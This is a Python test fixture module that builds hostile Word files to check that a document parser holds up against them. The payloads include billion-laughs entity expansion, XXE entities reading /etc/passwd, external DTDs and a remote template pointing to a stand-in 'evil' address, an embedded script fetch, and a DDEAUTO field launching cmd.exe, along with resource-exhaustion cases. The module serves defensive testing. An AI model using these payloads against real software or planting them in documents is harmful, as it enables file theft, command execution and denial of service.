"""Office files whose XML is built to cost time or memory, or to reach out."""

from collections.abc import Callable, Mapping
from typing import Final

from tests.building.docx_files import DocxFile, field, link, note, paragraph, parts_of, run, sister_city_letter, zipped
from tests.building.docx_files import table as word_table

_LAUGHS: Final = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def _document(replacement: bytes, *, part: str = "word/document.xml") -> bytes:
    return zipped({**parts_of(sister_city_letter()), part: replacement})


def _declared(declaration: str, text: str = "&x;", *, part: str = "word/document.xml") -> bytes:
    content = parts_of(sister_city_letter())["word/document.xml"].decode()
    content = content.replace("Exmo.", text)
    return _document(f"<!DOCTYPE w:document [{declaration}]>{content}".encode(), part=part)


def _laughs() -> bytes:
    return _declared(f'<!ENTITY l0 "lol">{_LAUGHS}', "&l9;")


def _laughs_in_utf16() -> bytes:
    declared = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY l0 "lol">{_LAUGHS}]><a>&l9;</a>'
    return _document(declared.encode("utf-16"))


def _declared_in_utf7() -> bytes:
    """Return a letter whose document type is written in letters that look like none."""
    declared = '<!DOCTYPE a [<!ENTITY x "lol">]><a b="&x;">&x;</a>'.replace("<!DOCTYPE", "+ADwAIQBEAE8AQwBUAFkAUABF-")
    return _document(f'<?xml version="1.0" encoding="UTF-7"?>{declared}'.encode())


def _laughs_in_types() -> bytes:
    return _declared(f'<!ENTITY l0 "lol">{_LAUGHS}', "&l9;", part="[Content_Types].xml")


def _laughs_in_relationships() -> bytes:
    return _declared(f'<!ENTITY l0 "lol">{_LAUGHS}', "&l9;", part="_rels/.rels")


def _quadratic() -> bytes:
    return _declared(f'<!ENTITY x "{"a" * 50_000}">', "&x;" * 50_000)


def _file_of_the_house() -> bytes:
    return _declared('<!ENTITY x SYSTEM "file:///etc/passwd">')


def _address_outside() -> bytes:
    return _declared('<!ENTITY x SYSTEM "http://127.0.0.1:9/evil">')


def _parameter_entity() -> bytes:
    return _declared('<!ENTITY % x SYSTEM "http://127.0.0.1:9/evil.dtd"> %x;', "")


def _deep() -> bytes:
    return _document(b"<a>" * 200_000 + b"</a>" * 200_000)


def _deep_tables() -> bytes:
    opened, closed = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    return DocxFile(opened * 2_000, paragraph(run("Deep")), closed * 2_000).build()


def _deep_boxes() -> bytes:
    inner = paragraph(run("Deep"))
    for _ in range(60):
        inner = paragraph(f"<w:r><w:pict><v:textbox><w:txbxContent>{inner}</w:txbxContent></v:textbox></w:pict></w:r>")
    return DocxFile(inner).build()


def _huge_attribute() -> bytes:
    return DocxFile(f'<w:p w:rsidR="{"A" * 15_000_000}">{run("Words")}</w:p>').build()


def _many_attributes() -> bytes:
    attributes = " ".join(f'a{number}="1"' for number in range(100_000))
    return DocxFile(f"<w:p {attributes}>{run('Words')}</w:p>").build()


def _many_namespaces() -> bytes:
    names = " ".join(f'xmlns:n{number}="urn:{number}"' for number in range(20_000))
    return DocxFile(f"<w:p {names}>{run('Words')}</w:p>").build()


def _a_million_runs() -> bytes:
    return DocxFile(paragraph("<w:r><w:t>a</w:t></w:r>" * 1_000_000)).build()


def _a_million_runs_that_differ() -> bytes:
    bold, plain = "<w:r><w:rPr><w:b/></w:rPr><w:t>a</w:t></w:r>", "<w:r><w:t>b</w:t></w:r>"
    return DocxFile(paragraph((bold + plain) * 100_000)).build()


def _a_million_paragraphs() -> bytes:
    return DocxFile("<w:p><w:r><w:t>word</w:t></w:r></w:p>" * 1_000_000).build()


def _a_great_table() -> bytes:
    rows = [tuple(paragraph(run(f"cell {row}")) for _ in range(50)) for row in range(2_000)]
    return DocxFile(word_table(*rows)).build()


def _spans() -> bytes:
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p><w:r><w:t>Wide</w:t></w:r></w:p></w:tc>'
    return DocxFile(f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>").build()


def _one_long_word() -> bytes:
    return DocxFile(paragraph(run("x" * 9_000_000))).build()


def _one_long_sentence() -> bytes:
    return DocxFile(paragraph(run("word, " * 150_000))).build()


def _many_stops() -> bytes:
    return DocxFile(paragraph(run("a. " * 60_000))).build()


def _brackets() -> bytes:
    return DocxFile(paragraph(run("(" * 500_000 + "a"))).build()


def _tag_lookalikes() -> bytes:
    return DocxFile(paragraph(run("\\" * 20_000 + "<1></1><2/>" * 8_000 + "a"))).build()


def _many_bookmarks() -> bytes:
    marks = "".join(f'<w:bookmarkStart w:id="{number}" w:name="b"/>' for number in range(20_000))
    return DocxFile(paragraph(run("Two") + marks + run("words"))).build()


def _circles_of_styles() -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{number}"><w:name w:val="s{number}"/>'
        f'<w:basedOn w:val="s{(number + 1) % 100}"/></w:style>'
        for number in range(100)
    )
    body = paragraph(run("Words"), properties='<w:pStyle w:val="s0"/>')
    return DocxFile(body).with_part("styles", styles).build()


def _circles_of_parts() -> bytes:
    document = DocxFile(paragraph(run("Words")))
    for kind in (
        "header",
        "footer",
        "chart",
        "diagramData",
        "footnotes",
        "styles",
        "settings",
        "numbering",
        "comments",
    ):
        document.relate(f"r{kind}", kind, "document.xml")
    return document.build()


def _many_relationships() -> bytes:
    document = DocxFile(paragraph(run("Words"))).with_part("header", paragraph(run("Head")))
    for number in range(20_000):
        document.relate(f"n{number}", "header", "document.xml")
    return document.build()


def _foreign_chunk() -> bytes:
    page = '<html><script>fetch("http://127.0.0.1:9/")</script><p>Chunk</p></html>'
    document = DocxFile(paragraph(run("Words")), '<w:altChunk r:id="rChunk"/>').relate(
        "rChunk", "aFChunk", "chunk.html"
    )
    return document.with_file("word/chunk.html", page).build()


def _template_elsewhere() -> bytes:
    document = DocxFile(paragraph(run("Words"))).with_part("settings", '<w:attachedTemplate r:id="rT"/>')
    return document.relate("rT", "attachedTemplate", "http://127.0.0.1:9/evil.dotm", mode="External").build()


def _picture_elsewhere() -> bytes:
    field_ = field('INCLUDEPICTURE "http://127.0.0.1:9/pixel.png" \\d', run("Picture"))
    return DocxFile(paragraph(run("Words"), field_)).build()


def _dynamic_exchange() -> bytes:
    return DocxFile(paragraph(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', run("Words")))).build()


def _many_fields() -> bytes:
    return DocxFile(paragraph(*[field("REF a", run("b"))] * 20_000, run("word"))).build()


def _links_in_links() -> bytes:
    words = run("Words")
    for _ in range(1_000):
        words = link(words)
    return DocxFile(paragraph(words)).build()


def _many_notes() -> bytes:
    notes = "".join(note(number, paragraph(run(f"Note {number}"))) for number in range(70_000))
    return DocxFile(paragraph(run("Words"))).with_part("footnotes", notes).build()


def _many_alternates() -> bytes:
    inner = paragraph(run("Twice"))
    box = f"<w:pict><v:textbox><w:txbxContent>{inner}</w:txbxContent></v:textbox></w:pict>"
    both = f'<mc:AlternateContent><mc:Choice Requires="w">{box}</mc:Choice><mc:Fallback>{box}</mc:Fallback>'
    return DocxFile(paragraph(f"<w:r>{both}</mc:AlternateContent></w:r>" * 3_000)).build()


def _signs_of_all_kinds() -> bytes:
    signs = "\u202e\u202d\u2066\u200b\ufeff\u0301" * 5_000
    return DocxFile(paragraph(run(f"Words {signs} more"))).build()


def _no_body() -> bytes:
    return _document(b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>')


def _another_root() -> bytes:
    return _document(b"<html><body>Words</body></html>")


HOSTILE_MARKUP: Final[Mapping[str, Callable[[], bytes]]] = {
    "laughs": _laughs,
    "laughs-in-utf16": _laughs_in_utf16,
    "declared-in-utf7": _declared_in_utf7,
    "laughs-in-types": _laughs_in_types,
    "laughs-in-relationships": _laughs_in_relationships,
    "quadratic": _quadratic,
    "file-of-the-house": _file_of_the_house,
    "address-outside": _address_outside,
    "parameter-entity": _parameter_entity,
    "deep": _deep,
    "deep-tables": _deep_tables,
    "deep-boxes": _deep_boxes,
    "huge-attribute": _huge_attribute,
    "many-attributes": _many_attributes,
    "many-namespaces": _many_namespaces,
    "a-million-runs": _a_million_runs,
    "runs-that-differ": _a_million_runs_that_differ,
    "a-million-paragraphs": _a_million_paragraphs,
    "a-great-table": _a_great_table,
    "spans": _spans,
    "one-long-word": _one_long_word,
    "one-long-sentence": _one_long_sentence,
    "many-stops": _many_stops,
    "brackets": _brackets,
    "tag-lookalikes": _tag_lookalikes,
    "many-bookmarks": _many_bookmarks,
    "circles-of-styles": _circles_of_styles,
    "circles-of-parts": _circles_of_parts,
    "many-relationships": _many_relationships,
    "foreign-chunk": _foreign_chunk,
    "template-elsewhere": _template_elsewhere,
    "picture-elsewhere": _picture_elsewhere,
    "dynamic-exchange": _dynamic_exchange,
    "many-fields": _many_fields,
    "links-in-links": _links_in_links,
    "many-notes": _many_notes,
    "many-alternates": _many_alternates,
    "signs-of-all-kinds": _signs_of_all_kinds,
    "no-body": _no_body,
    "another-root": _another_root,
}
